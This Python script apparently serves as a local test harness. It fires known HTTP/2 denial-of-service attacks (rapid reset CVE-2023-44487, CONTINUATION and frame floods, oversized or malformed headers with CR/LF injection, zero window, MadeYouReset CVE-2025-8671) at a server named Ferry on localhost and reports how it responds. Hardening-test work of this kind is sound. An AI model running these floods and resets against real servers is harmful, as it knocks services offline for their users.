#!/usr/bin/env python3
"""Known HTTP/2 attacks, frame by frame (hyperframe + hpack, no client-side checks), against
Ferry over TLS. Each prints what the server answered, one line, e.g. "goaway 11 after 1000
resets" or "reset 8 after 1.0s".

Usage: h2_attacks.py PORT ATTACK [ARG]
  rapid_reset [N]      N streams opened and reset at once (CVE-2023-44487), default 1000
  continuation [N]     one header block in N CONTINUATION frames that never end it, default 100
  big_headers BYTES    a request whose header list is BYTES long
  ping_flood [N]       N PINGs, default 1000
  settings_flood [N]   N SETTINGS, default 1000
  zero_window PATH     asks for PATH with an initial window of 0 and never opens it
  bad_header NAME VALUE  a request with one malformed field (sent without hpack's checks)
  made_you_reset [N]   N malformed requests, each making the server reset its stream
                       ("MadeYouReset", CVE-2025-8671), default 1000
Every read is bounded (20 s).
"""
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Raw:
    def __init__(self, port, settings=None):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=20)
        self.sock = context.wrap_socket(raw, server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2"
        self.port = port
        self.encoder = hpack.Encoder()
        self.buffer = b""
        frame = SettingsFrame(0)
        frame.settings = settings or {}
        self.sock.sendall(PREFACE + frame.serialize())

    def send(self, *frames):
        """Sends the frames; a server that closed meanwhile (it answered already) is no error here:
        what it said is read next."""
        try:
            self.sock.sendall(b"".join(f.serialize() for f in frames))
        except OSError:
            pass

    def block(self, path, extra=()):
        return self.encoder.encode(
            [(":method", "GET"), (":scheme", "https"), (":authority", "localhost:%d" % self.port), (":path", path)]
            + list(extra))

    def frames(self, seconds):
        """Frames the server sends within `seconds` (until it closes)."""
        end = time.monotonic() + seconds
        self.sock.settimeout(0.2)
        while time.monotonic() < end:
            while len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
                self.buffer = self.buffer[9 + length :]
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    ack = SettingsFrame(0)
                    ack.flags.add("ACK")
                    try:
                        self.send(ack)
                    except OSError:
                        pass
                yield frame
            try:
                data = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                return
            if not data:
                yield None  # closed
                return
            self.buffer += data


def until_goaway(client, seconds=10):
    for frame in client.frames(seconds):
        if frame is None:
            return "closed"
        if isinstance(frame, GoAwayFrame):
            return "goaway %d" % frame.error_code
    return "nothing"


def first_answer(client):
    """What the server first says about stream 1: its status, a reset, a GOAWAY or a close."""
    for frame in client.frames(10):
        if frame is None:
            return "closed"
        if isinstance(frame, GoAwayFrame):
            return "goaway %d" % frame.error_code
        if isinstance(frame, RstStreamFrame) and frame.stream_id == 1:
            return "reset %d" % frame.error_code
        if isinstance(frame, HeadersFrame) and frame.stream_id == 1:
            return "status %s" % dict(hpack.Decoder().decode(frame.data)).get(":status")
    return "nothing"


def rapid_reset(port, count=1000):
    client = Raw(port)
    frames = []
    for index in range(count):
        stream = 1 + 2 * index
        headers = HeadersFrame(stream, client.block("/"))
        headers.flags.add("END_HEADERS")
        headers.flags.add("END_STREAM")
        frames += [headers, RstStreamFrame(stream, error_code=8)]
    client.send(*frames)
    print("%s after %d resets" % (until_goaway(client), count), flush=True)


def continuation(port, count=100):
    client = Raw(port)
    block = client.block("/")
    headers = HeadersFrame(1, block)  # no END_HEADERS: CONTINUATION must follow
    frames = [headers]
    for index in range(count):
        frames.append(ContinuationFrame(1, client.encoder.encode([("x-filler-%d" % index, "y" * 16)])))
    client.send(*frames)
    print("%s after %d continuation frames" % (until_goaway(client), count), flush=True)


def big_headers(port, size):
    client = Raw(port)
    extra = [("x-big-%d" % index, "v" * 1000) for index in range(size // 1000)]
    block = client.block("/", extra)
    chunks = [block[i : i + 16000] for i in range(0, len(block), 16000)]
    first = HeadersFrame(1, chunks[0])
    first.flags.add("END_STREAM")
    frames = [first] + [ContinuationFrame(1, chunk) for chunk in chunks[1:]]
    frames[-1].flags.add("END_HEADERS")
    client.send(*frames)
    print(first_answer(client), flush=True)


def flood(port, count, make):
    client = Raw(port)
    client.send(*[make(index) for index in range(count)])
    print("%s after %d frames" % (until_goaway(client), count), flush=True)


def zero_window(port, path):
    client = Raw(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    headers = HeadersFrame(1, client.block(path))
    headers.flags.add("END_HEADERS")
    headers.flags.add("END_STREAM")
    started = time.monotonic()
    client.send(headers)
    status = None
    for frame in client.frames(30):
        if frame is None:
            print("closed after %.1fs (status %s)" % (time.monotonic() - started, status), flush=True)
            return
        if isinstance(frame, HeadersFrame) and frame.stream_id == 1:
            status = dict(hpack.Decoder().decode(frame.data)).get(":status")
        if isinstance(frame, DataFrame) and frame.data:
            print("data while the window is shut", flush=True)
            return
        if isinstance(frame, RstStreamFrame) and frame.stream_id == 1:
            print("reset %d after %.1fs (status %s)" % (frame.error_code, time.monotonic() - started, status), flush=True)
            return
    print("nothing (status %s)" % status, flush=True)


def bad_header(port, name, value):
    client = Raw(port)
    # hpack's encoder does not check names or values: the malformed field goes out as given.
    block = client.block("/", [(name.encode(), value.encode().replace(b"\\r", b"\r").replace(b"\\n", b"\n"))])
    headers = HeadersFrame(1, block)
    headers.flags.add("END_HEADERS")
    headers.flags.add("END_STREAM")
    client.send(headers)
    print(first_answer(client), flush=True)


def made_you_reset(port, count=1000):
    client = Raw(port)
    frames = []
    for index in range(count):
        headers = HeadersFrame(1 + 2 * index, client.block("/", [(b"X-Upper", b"v")]))
        headers.flags.add("END_HEADERS")
        headers.flags.add("END_STREAM")
        frames.append(headers)
    client.send(*frames)
    print("%s after %d malformed requests" % (until_goaway(client), count), flush=True)


if __name__ == "__main__":
    port, attack = int(sys.argv[1]), sys.argv[2]
    argument = sys.argv[3] if len(sys.argv) > 3 else None
    if attack == "rapid_reset":
        rapid_reset(port, int(argument or 1000))
    elif attack == "continuation":
        continuation(port, int(argument or 100))
    elif attack == "big_headers":
        big_headers(port, int(argument))
    elif attack == "ping_flood":
        flood(port, int(argument or 1000), lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")))
    elif attack == "settings_flood":
        flood(port, int(argument or 1000), lambda i: SettingsFrame(0))
    elif attack == "window_flood":
        flood(port, int(argument or 1000), lambda i: WindowUpdateFrame(0, window_increment=1))
    elif attack == "zero_window":
        zero_window(port, argument)
    elif attack == "bad_header":
        bad_header(port, sys.argv[3], sys.argv[4])
    elif attack == "made_you_reset":
        made_you_reset(port, int(argument or 1000))
    else:
        sys.exit("unknown attack " + attack)
